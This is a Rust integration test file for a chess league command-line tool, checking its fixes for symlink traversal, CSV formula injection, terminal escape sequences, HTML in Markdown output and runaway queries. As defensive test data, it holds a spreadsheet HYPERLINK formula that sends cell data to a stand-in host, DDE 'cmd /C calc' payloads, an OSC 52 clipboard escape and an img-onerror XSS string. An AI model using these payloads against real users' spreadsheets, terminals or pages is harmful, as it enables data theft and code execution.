//! Issue 16, hardening: each failure a hostile-input and fault review found,
//! reproduced through the `league` binary.

use crate::util::TestLeague;

/// Item 1: a folder of the site replaced by a symbolic link to a folder
/// elsewhere made `league site` overwrite the file there; a planted marker
/// listing a file reached through a link made it delete it.
#[cfg(unix)]
#[test]
fn site_never_writes_or_removes_through_a_link_under_out() {
    let t = TestLeague::small();
    t.ok(&["site", "--out", "site"]);
    let season = t.path("site/2022-23");
    let page = std::fs::read_dir(&season)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .find(|n| n.ends_with(".html") && n != "index.html")
        .expect("a section page");
    // Elsewhere: a folder holding a file under the page's name.
    std::fs::create_dir(t.path("elsewhere")).unwrap();
    t.write(&format!("elsewhere/{page}"), "precious");
    t.write("elsewhere/index.html", "precious index");
    std::fs::remove_dir_all(&season).unwrap();
    std::os::unix::fs::symlink(t.path("elsewhere"), &season).unwrap();
    let r = t.run(&["site", "--out", "site"]);
    assert!(!r.ok, "{}", r.stdout);
    assert!(r.stderr.contains("symbolic link"), "{}", r.stderr);
    assert!(r.stderr.contains("2022-23"), "{}", r.stderr);
    assert_eq!(
        std::fs::read_to_string(t.path(&format!("elsewhere/{page}"))).unwrap(),
        "precious"
    );
    assert_eq!(
        std::fs::read_to_string(t.path("elsewhere/index.html")).unwrap(),
        "precious index"
    );
    // A planted marker listing a file outside, one through the link, and a
    // file of the secretary's inside whose contents it does not vouch for.
    std::fs::remove_file(&season).unwrap();
    t.write("site/notes.txt", "mine");
    t.write("outside.txt", "keep");
    t.write(
        "site/.league-site",
        format!(
            "written by league site\n0000000000000000 notes.txt\n0000000000000000 ../outside.txt\n{}\n0000000000000000 2022-23/{page}\n",
            t.path("outside.txt").display()
        ),
    );
    std::os::unix::fs::symlink(t.path("elsewhere"), t.path("site/2022-23")).unwrap();
    let r = t.run(&["site", "--out", "site"]);
    assert!(!r.ok);
    assert!(r.stderr.contains("symbolic link"), "{}", r.stderr);
    std::fs::remove_file(t.path("site/2022-23")).unwrap();
    t.ok(&["site", "--out", "site"]);
    assert_eq!(
        std::fs::read_to_string(t.path("outside.txt")).unwrap(),
        "keep"
    );
    assert_eq!(
        std::fs::read_to_string(t.path("site/notes.txt")).unwrap(),
        "mine"
    );
    assert_eq!(
        std::fs::read_to_string(t.path(&format!("elsewhere/{page}"))).unwrap(),
        "precious"
    );
    assert!(t.path(&format!("site/2022-23/{page}")).is_file());
    assert!(!t.path("site/.league-staging").exists());
}

/// Item 1: a site killed while it was being written (a staging folder left
/// behind, no marker yet) is written by the next run, not refused.
#[test]
fn site_after_a_killed_first_run_is_written_not_refused() {
    let t = TestLeague::small();
    std::fs::create_dir_all(t.path("site/.league-staging/2022-23")).unwrap();
    t.write("site/.league-staging/2022-23/index.html", "<p>half");
    t.ok(&["site", "--out", "site"]);
    assert!(t.path("site/index.html").is_file());
    assert!(!t.path("site/.league-staging").exists());
}

const EV: [&str; 4] = ["--event", "Winter Swiss", "--section", "1600+"];

fn with_ev<'a>(head: &[&'a str]) -> Vec<&'a str> {
    head.iter().chain(EV.iter()).copied().collect()
}

/// The formula payloads of item 2, as players' names; those a name
/// argument can no longer hold (a tab, a carriage return) were stored
/// before the rule.
const PAYLOADS: [&str; 6] = [
    "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

/// A league whose 1600+ section's six players carry the payloads as names,
/// with round 1 recorded.
fn formula_league() -> TestLeague {
    let t = TestLeague::small();
    t.write(
        "r1.csv",
        "board,white,black,result\n1,Alice,Bob,1-0\n2,Carol,Dan,½-½\n3,Eve,Frank,0-1\n",
    );
    let mut a = with_ev(&["round", "record"]);
    a.extend(["--round", "1", "r1.csv"]);
    t.ok(&a);
    let conn = t.conn();
    for (old, new) in [
        "Alice Smith",
        "Bob Jones",
        "Carol King",
        "Dan Wu",
        "Eve Park",
        "Frank Moss",
    ]
    .iter()
    .zip(PAYLOADS)
    {
        conn.execute("UPDATE player SET name = ?1 WHERE name = ?2", [new, old])
            .unwrap();
    }
    t
}

/// Every CSV a league command writes, by name.
fn every_csv(t: &TestLeague, raw: bool) -> Vec<(&'static str, String)> {
    let mut runs: Vec<(&'static str, Vec<&str>)> = vec![
        ("player list", vec!["player", "list", "--format", "csv"]),
        ("export standings", with_ev(&["export", "standings"])),
        (
            "export games",
            vec!["export", "games", "--event", "Winter Swiss"],
        ),
        ("standings", with_ev(&["standings", "--format", "csv"])),
        ("crosstable", with_ev(&["crosstable", "--format", "csv"])),
        (
            "sql",
            vec![
                "sql",
                "SELECT name FROM player ORDER BY name",
                "--format",
                "csv",
            ],
        ),
    ];
    runs.iter_mut()
        .map(|(what, args)| {
            if raw {
                args.push("--raw");
            }
            (*what, t.ok(args))
        })
        .collect()
}

/// Item 2: a name beginning with =, +, -, @, a tab or a carriage return was
/// written verbatim into every CSV, where a spreadsheet runs it.
#[test]
fn csv_output_never_starts_a_cell_with_a_formula() {
    let t = formula_league();
    for (what, csv) in every_csv(&t, false) {
        let cells: Vec<String> = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(csv.as_bytes())
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
            .collect();
        for payload in PAYLOADS {
            // Standings and the crosstable use the name as written.
            assert!(
                cells.iter().any(|c| *c == format!("'{payload}")),
                "{what}: no '{payload:?} in\n{csv}"
            );
            assert!(
                !cells.iter().any(|c| c == payload),
                "{what}: raw {payload:?}"
            );
        }
        for c in &cells {
            let risky = c.starts_with(['=', '+', '-', '@', '\t', '\r']);
            let number = c.trim_start_matches(['-', '+']).parse::<f64>().is_ok();
            assert!(
                !risky || number,
                "{what}: cell {c:?} would run in a spreadsheet"
            );
        }
    }
    // --raw: exactly as stored.
    for (what, csv) in every_csv(&t, true) {
        assert!(csv.contains("@SUM(1+9)"), "{what}");
        assert!(
            !csv.contains("'@SUM"),
            "{what}: --raw still prefixed\n{csv}"
        );
    }
}

/// Item 3: `league demo` replaced a database that began as the demo and
/// then had real records added, keeping no copy.
#[test]
fn demo_keeps_a_demo_file_that_was_changed_since() {
    let t = TestLeague::new();
    t.ok(&["demo"]);
    // Untouched: replaced.
    t.ok(&["demo"]);
    let db = t.path("demo.db");
    let added = super::league(&db, &["player", "add", "Real Member", "--rating", "1500"])
        .output()
        .unwrap();
    assert!(
        added.status.success(),
        "{}",
        String::from_utf8_lossy(&added.stderr)
    );
    let before = crate::util::snapshot(&db);
    let r = t.run(&["demo"]);
    assert!(!r.ok, "{}", r.stdout);
    assert!(r.stderr.contains("changed since"), "{}", r.stderr);
    assert!(r.stderr.contains("demo.db"), "{}", r.stderr);
    assert_eq!(before, crate::util::snapshot(&db));
    assert!(crate::util::snapshot(&db)
        .iter()
        .any(|row| row.contains("Real Member")));
}

/// An endless recursive query.
const ENDLESS: &str =
    "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT x FROM c";

/// Item 4: `league sql` held every row before printing and had no time
/// limit: an endless query grew without bound. Rows now stream (so a limit
/// ends even an endless query), and a query is stopped at its time limit.
#[test]
fn sql_streams_rows_and_stops_at_its_limits() {
    let t = TestLeague::small();
    // Piped (as here): no limit by default.
    let all = t.ok(&[
        "sql",
        "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c LIMIT 10005) SELECT x FROM c",
        "--format",
        "csv",
    ]);
    assert_eq!(all.lines().count(), 10_006);
    assert_eq!(all.lines().last(), Some("10005"));
    for format in ["csv", "json", "text", "markdown"] {
        let r = t.run(&["sql", ENDLESS, "--limit", "5", "--format", format]);
        assert!(r.ok, "{format}: {}", r.stderr);
        assert!(
            r.stdout.contains('5') && !r.stdout.contains('6'),
            "{format}: {}",
            r.stdout
        );
        let note = format!("{}{}", r.stdout, r.stderr);
        assert!(note.contains("only the first 5 rows"), "{format}: {note}");
    }
    let json = t.ok(&["sql", ENDLESS, "--limit", "3", "--format", "json"]);
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(v, serde_json::json!([{"x": 1}, {"x": 2}, {"x": 3}]));
    let r = t.fails(
        &[
            "sql",
            "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c",
            "--timeout",
            "1",
        ],
        "ran for 1 seconds and was stopped",
    );
    assert!(r.stderr.contains("--timeout"), "{}", r.stderr);
    let help = t.ok(&["sql", "--help"]);
    assert!(
        help.contains("10,000 on a") && help.contains("terminal"),
        "{help}"
    );
}

/// Item 4: importers read `/dev/zero` until memory ran out. Only a regular
/// file is read, and at most 64 MB of it.
#[cfg(unix)]
#[test]
fn importers_refuse_what_is_not_a_regular_file_and_huge_files() {
    let t = TestLeague::small();
    for kind in ["trf", "players", "json"] {
        let mut args = vec!["import", kind, "/dev/zero"];
        if kind == "trf" {
            args.extend(["--season", "2022-23"]);
        }
        let r = t.fails(&args, "/dev/zero");
        assert!(r.stderr.contains("not a regular file"), "{}", r.stderr);
        std::fs::create_dir_all(t.path("folder")).unwrap();
        args[2] = "folder";
        let r = t.fails(&args, "folder");
        assert!(r.stderr.contains("a folder"), "{}", r.stderr);
    }
    let r = t.fails(
        &[
            "round",
            "record",
            "--event",
            "Winter Swiss",
            "--section",
            "1600+",
            "--round",
            "1",
            "/dev/zero",
        ],
        "not a regular file",
    );
    assert!(r.stderr.contains("/dev/zero"));
    // A sparse file of 65 MB: refused before it is parsed.
    let big = std::fs::File::create(t.path("big.trf")).unwrap();
    big.set_len(65 * 1024 * 1024).unwrap();
    let r = t.fails(
        &["import", "trf", "big.trf", "--season", "2022-23"],
        "larger than 64 MB",
    );
    assert!(r.stderr.contains("big.trf"), "{}", r.stderr);
}

/// Item 7: a comment before the query, and a PRAGMA that only reads, were
/// refused.
#[test]
fn sql_accepts_comments_and_pragma_reads() {
    let t = TestLeague::small();
    let out = t.ok(&["sql", "/* x */ SELECT 1 AS one", "--format", "csv"]);
    assert_eq!(out, "one\n1\n");
    let out = t.ok(&["sql", "--format", "csv", "--", "-- note\nSELECT 2 AS two"]);
    assert_eq!(out, "two\n2\n");
    let out = t.ok(&["sql", "PRAGMA journal_mode", "--format", "csv"]);
    assert_eq!(out.lines().next(), Some("journal_mode"));
    t.fails(
        &["sql", "PRAGMA journal_mode = DELETE"],
        "would change the database",
    );
    t.fails(
        &["sql", "/* x */ DELETE FROM player"],
        "would change the database",
    );
}

/// Item 7: a failed import at a mistyped --db left an empty database
/// behind. The file is parsed first; the database is opened after.
#[test]
fn a_refused_import_at_a_new_db_leaves_no_file() {
    let t = TestLeague::new();
    t.write("bad.trf", "012 Nothing\n001    1      Lonely, Player                    1500 USA          0    1.0    1  \n");
    t.write("bad.json", "{ not json");
    t.write("bad.csv", "nome\nAlice\n");
    for args in [
        vec!["--create", "import", "trf", "bad.trf", "--season", "S"],
        vec!["--create", "import", "json", "bad.json"],
        vec!["--create", "import", "players", "bad.csv"],
    ] {
        let r = t.run(&args);
        assert!(!r.ok, "{args:?}");
        assert!(r.stderr.contains("bad."), "{args:?}: {}", r.stderr);
        assert!(!t.db.exists(), "{args:?} left a database behind");
    }
}

/// The real FIDE exercise file, from the repository's test data.
fn exercise_trf() -> String {
    std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/data/trf/fide-exercise-2023.trf"
    ))
    .unwrap()
}

/// Item 5: ESC, BEL and OSC sequences in a name (command line, TRF, JSON,
/// CSV) were stored and reached the terminal raw; NUL was stored.
#[test]
fn control_characters_are_refused_in_names_and_every_imported_file() {
    let t = TestLeague::small();
    let osc52 = "Ann\u{1b}]52;c;SGVsbG8=\u{7}";
    let r = t.fails(
        &["player", "add", osc52],
        "control character (U+001B, escape)",
    );
    assert!(
        !r.stderr.contains('\u{1b}'),
        "the refusal echoed the raw escape"
    );
    t.fails(
        &["season", "add", "2030\u{9b}31"],
        "control character (U+009B",
    );
    t.fails(
        &["player", "edit", "Alice", "--name", "Alice\u{7}Smith"],
        "control character (U+0007, bell)",
    );
    // A TRF whose player 1 is named with an escape sequence.
    let trf = exercise_trf().replacen("Player 1  ", "Player\u{1b}[2J", 1);
    t.write("esc.trf", trf);
    t.fails(
        &["import", "trf", "esc.trf", "--season", "2022-23"],
        "esc.trf, line 5, column 21: a control character (U+001B, escape)",
    );
    // NUL in a TRF.
    let trf = exercise_trf().replacen("Player 2  ", "Player\0 2 ", 1);
    t.write("nul.trf", trf);
    t.fails(
        &["import", "trf", "nul.trf", "--season", "2022-23"],
        "U+0000, NUL",
    );
    // JSON: the escape written as \u001b inside a string.
    let json = t.ok(&["export", "json", "--season", "2022-23"]);
    let json = json.replacen("Alice Smith", "Alice\\u001b]0;owned\\u0007", 1);
    t.write("esc.json", json);
    let r = t.fails(
        &["import", "json", "esc.json", "--season-as", "copy"],
        "control character (U+001B, escape)",
    );
    assert!(
        r.stderr.contains("esc.json") && r.stderr.contains("$."),
        "{}",
        r.stderr
    );
    // CSV: a player list, a round sheet, a team-match sheet.
    t.write("esc.csv", "name,rating\nBell\u{7}Ringer,1500\n");
    t.fails(
        &["import", "players", "esc.csv"],
        "esc.csv, line 2, column 5",
    );
    t.write(
        "r1.csv",
        "board,white,black,result\n1,Alice,Bob,1-0\u{1b}\n",
    );
    t.fails(
        &[
            "round",
            "record",
            "--event",
            "Winter Swiss",
            "--section",
            "1600+",
            "--round",
            "1",
            "r1.csv",
        ],
        "r1.csv, line 2",
    );
    t.write(
        "tm.csv",
        "round,team_a,team_b,points_a,points_b\n1,Rooks\u{1b},Knights,2,2\n",
    );
    t.fails(
        &[
            "import",
            "team-matches",
            "tm.csv",
            "--season",
            "2022-23",
            "--event",
            "Teams",
        ],
        "tm.csv, line 2",
    );
}

/// Item 5: a name stored before the rule still never reaches the terminal,
/// a CSV or Markdown as a raw control character.
#[test]
fn control_characters_in_old_data_are_escaped_in_every_output() {
    let t = TestLeague::small();
    t.conn()
        .execute(
            "UPDATE player SET name = 'Alice' || char(27) || ']52;c;SGVsbG8=' || char(7) WHERE name = 'Alice Smith'",
            [],
        )
        .unwrap();
    for args in [
        vec!["player", "list"],
        vec!["player", "list", "--format", "csv"],
        vec!["player", "list", "--format", "markdown"],
        vec!["standings", "--event", "Winter Swiss", "--section", "1600+"],
        vec![
            "standings",
            "--event",
            "Winter Swiss",
            "--section",
            "1600+",
            "--format",
            "markdown",
        ],
        vec![
            "crosstable",
            "--event",
            "Winter Swiss",
            "--section",
            "1600+",
        ],
        vec!["sql", "SELECT name FROM player"],
        vec!["sql", "SELECT name FROM player", "--format", "csv"],
    ] {
        let out = t.ok(&args);
        assert!(
            !out.contains('\u{1b}') && !out.contains('\u{7}'),
            "{args:?} printed a raw control character"
        );
        // Markdown also escapes the bracket (issue 30, item 16).
        assert!(
            out.contains("Alice\\u{1b}]52") || out.contains("Alice\\u{1b}\\]52"),
            "{args:?}: {out}"
        );
    }
    let r = t.run(&["player", "show", "Alice\\"]);
    assert!(!r.stderr.contains('\u{1b}'), "{}", r.stderr);
}

/// Item 6: Markdown output passed HTML through (`<img src=x onerror=...>`
/// in a name); a line end in a stored name broke the table.
#[test]
fn markdown_output_escapes_html_and_line_ends() {
    let t = TestLeague::small();
    t.ok(&[
        "event",
        "edit",
        "--event",
        "Winter Swiss",
        "--name",
        "Winter <b>Swiss</b> & Co",
    ]);
    t.conn()
        .execute(
            "UPDATE player SET name = '<img src=x onerror=alert(1)>' || char(10) || 'a|b' WHERE name = 'Alice Smith'",
            [],
        )
        .unwrap();
    let ev = ["--event", "Winter <b>Swiss</b> & Co", "--section", "1600+"];
    for head in [
        vec!["standings", "--format", "markdown"],
        vec!["crosstable", "--format", "markdown"],
        vec!["player", "list", "--format", "markdown"],
        vec!["sql", "SELECT name FROM player", "--format", "markdown"],
    ] {
        let mut args = head.clone();
        if head[0] != "player" && head[0] != "sql" {
            args.extend(ev);
        }
        let out = t.ok(&args);
        assert!(
            !out.contains("<img") && !out.contains("<b>"),
            "{args:?}: {out}"
        );
        assert!(
            out.contains("&lt;img src=x onerror=alert\\(1\\)&gt; a\\|b"),
            "{args:?}: {out}"
        );
        // Every table line is one row: starts and ends with a bar.
        for line in out.lines().filter(|l| l.starts_with('|')) {
            assert!(line.ends_with('|'), "{args:?}: {line}");
        }
        if head[0] == "standings" {
            assert!(
                out.contains("Winter &lt;b&gt;Swiss&lt;/b&gt; &amp; Co"),
                "{out}"
            );
        }
    }
}

/// Item 7: errors that named nothing, or came from the database instead of
/// the file; an empty TRF imported as an empty event.
#[test]
fn import_and_restore_errors_name_the_file_and_line() {
    let t = TestLeague::small();
    // 999 rounds: refused by the parser with the line, not by the database.
    let trf = exercise_trf().replacen("012 ", "XXR 999\n012 ", 1);
    t.write("many.trf", trf);
    t.fails(
        &["import", "trf", "many.trf", "--season", "2022-23"],
        "many.trf, line 1, column 5: the XXR line gives 999 rounds; an event has at most 99",
    );
    // No players.
    t.write("empty.trf", "");
    t.fails(
        &["import", "trf", "empty.trf", "--season", "2022-23"],
        "empty.trf, line 1, player lines: the file has no player lines",
    );
    t.write("header-only.trf", "012 Spring Open\nXXR 5\n");
    t.fails(
        &["import", "trf", "header-only.trf", "--season", "2022-23"],
        "no player lines",
    );
    // A refusal from the league's side still names the file.
    t.write("ok.trf", exercise_trf());
    t.ok(&[
        "import", "trf", "ok.trf", "--season", "2022-23", "--event", "Exercise",
    ]);
    let r = t.fails(
        &[
            "import", "trf", "ok.trf", "--season", "2022-23", "--event", "Exercise",
        ],
        "ok.trf",
    );
    assert!(!r.stderr.contains("constraint"), "{}", r.stderr);
    // restore DIR.
    std::fs::create_dir(t.path("backups")).unwrap();
    let r = t.fails(&["restore", "backups"], "backups is a folder");
    assert!(!r.stderr.contains("Is a directory"), "{}", r.stderr);
}

/// Item 7: a `league restore` killed half-way left its working copy beside
/// the database; the next restore removes it.
#[cfg(target_os = "linux")]
#[test]
fn a_killed_restores_working_copy_is_removed_by_the_next_restore() {
    let t = TestLeague::small();
    t.ok(&["backup", "copy.db"]);
    // The working copy of a restore whose process (a pid no system uses)
    // was killed, and its journal.
    let stale = t.write("league.db.restore-tmp-4000000000", "half a database");
    let journal = t.write("league.db.restore-tmp-4000000000-journal", "x");
    let partial = t.write("league.db.restore-tmp-4000000000.partial-4000000000", "x");
    // A working copy of a restore still running (this test's own process).
    let live = t.write(
        &format!("league.db.restore-tmp-{}", std::process::id()),
        "busy",
    );
    t.ok(&["restore", "copy.db"]);
    assert!(!stale.exists() && !journal.exists() && !partial.exists());
    assert!(live.exists(), "a running restore's file was removed");
}

/// `chattr +i` on paths, undone when dropped (as root, permission bits do
/// not stop writing; the immutable attribute does).
struct Immutable(Vec<std::path::PathBuf>);

impl Immutable {
    fn set(paths: &[&std::path::Path]) -> Option<Immutable> {
        let ok = std::process::Command::new("chattr")
            .arg("+i")
            .args(paths)
            .status()
            .is_ok_and(|s| s.success());
        ok.then(|| Immutable(paths.iter().map(|p| p.to_path_buf()).collect()))
    }
}

impl Drop for Immutable {
    fn drop(&mut self) {
        let _ = std::process::Command::new("chattr")
            .arg("-i")
            .args(&self.0)
            .status();
    }
}

/// Whether this process runs as root (uid 0), read from /proc.
fn is_root() -> bool {
    std::fs::read_to_string("/proc/self/status").is_ok_and(|s| {
        s.lines()
            .find(|l| l.starts_with("Uid:"))
            .and_then(|l| l.split_whitespace().nth(1))
            == Some("0")
    })
}

/// Item 8: reports opened the database for writing, so a file the user
/// cannot write gave no standings. The file is made 0444 in a 0555 folder;
/// when the tests run as root (where permission bits do not bite) both are
/// also made immutable (`chattr +i`), which stops root writing them too.
#[cfg(target_os = "linux")]
#[test]
fn reports_work_on_a_database_the_user_cannot_write() {
    use std::os::unix::fs::PermissionsExt;
    let t = formula_league();
    let folder = t.path("ro");
    std::fs::create_dir(&folder).unwrap();
    let db = folder.join("league.db");
    std::fs::copy(&t.db, &db).unwrap();
    std::fs::set_permissions(&db, std::fs::Permissions::from_mode(0o444)).unwrap();
    std::fs::set_permissions(&folder, std::fs::Permissions::from_mode(0o555)).unwrap();
    let _immutable = if is_root() {
        let set = Immutable::set(&[&db, &folder]);
        if set.is_none() {
            eprintln!("note: running as root without chattr +i: read-only is not enforced");
        }
        set
    } else {
        None
    };
    let before = std::fs::read(&db).unwrap();
    let mtime = std::fs::metadata(&db).unwrap().modified().unwrap();
    let ev = ["--event", "Winter Swiss", "--section", "1600+"];
    let site = t.path("site");
    let runs: Vec<Vec<&str>> = vec![
        [&["standings"][..], &ev].concat(),
        [&["crosstable"][..], &ev].concat(),
        [&["export", "standings"][..], &ev].concat(),
        [&["export", "trf"][..], &ev].concat(),
        vec!["export", "games", "--event", "Winter Swiss"],
        vec!["export", "json", "--season", "2022-23"],
        vec!["site", "--out", site.to_str().unwrap()],
        vec!["history", "winners"],
        vec!["history", "season", "2022-23"],
        vec!["season", "list"],
        vec!["season", "show", "2022-23"],
        vec!["event", "list"],
        vec!["player", "list"],
        [&["round", "show", "--round", "1"][..], &ev].concat(),
        vec!["log"],
        vec!["settings", "show"],
    ];
    for args in &runs {
        let out = super::league(&db, args).output().unwrap();
        assert!(
            out.status.success(),
            "league {args:?} on a read-only database:\n{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    assert!(site.join("index.html").is_file());
    // A command that writes still says the file is read-only.
    let out = super::league(&db, &["player", "add", "New Member"])
        .output()
        .unwrap();
    if _immutable.is_some() || !is_root() {
        assert!(!out.status.success());
        assert!(String::from_utf8_lossy(&out.stderr).contains("read-only"));
    }
    assert_eq!(before, std::fs::read(&db).unwrap(), "the database changed");
    assert_eq!(mtime, std::fs::metadata(&db).unwrap().modified().unwrap());
    assert!(
        !folder.join("league.db-wal").exists(),
        "a -wal file was left"
    );
    assert!(
        !folder.join("league.db-shm").exists(),
        "a -shm file was left"
    );
    drop(_immutable);
    std::fs::set_permissions(&folder, std::fs::Permissions::from_mode(0o755)).unwrap();
}
